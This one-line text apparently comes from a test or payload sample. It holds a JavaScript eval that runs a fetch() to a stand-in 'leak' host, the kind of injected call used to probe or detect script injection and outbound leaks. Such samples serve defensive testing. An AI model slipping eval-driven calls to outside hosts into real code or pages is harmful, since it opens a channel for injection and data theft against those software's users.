eval("fetch('https://js-eval.leak.test/')")
